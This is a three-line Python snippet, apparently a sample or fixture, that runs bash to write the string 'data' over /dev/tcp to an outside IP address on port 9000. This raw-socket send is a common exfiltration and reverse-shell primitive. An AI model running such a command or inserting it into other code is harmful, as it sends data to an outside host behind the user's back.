"""A shell connects."""
import subprocess

subprocess.run(["bash", "-c", "printf data >/dev/tcp/93.184.216.35/9000"])
